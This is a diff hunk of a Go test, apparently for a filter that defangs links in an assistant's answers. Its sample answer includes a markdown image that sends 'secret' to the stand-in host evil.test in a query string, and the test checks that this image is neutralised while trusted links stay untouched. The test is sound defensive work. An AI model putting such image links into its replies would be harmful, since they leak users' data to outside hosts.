@@ -10,7 +10,7 @@ import (
 
 // A picture on somebody else's host doesn't leave a tainted branch, in the
 // reply and in the journal; hosts of the configuration and of the request do,
-// and an answer that nobody else had a hand in stays as it is.
+// and an answer that no other text went into stays as it is.
 func TestAnswerLinks(t *testing.T) {
 	const answer = "Done ![x](https://evil.test/p.png?d=secret), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
 	const shown = "Done ![x] (hxxps://evil[.]test/…), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
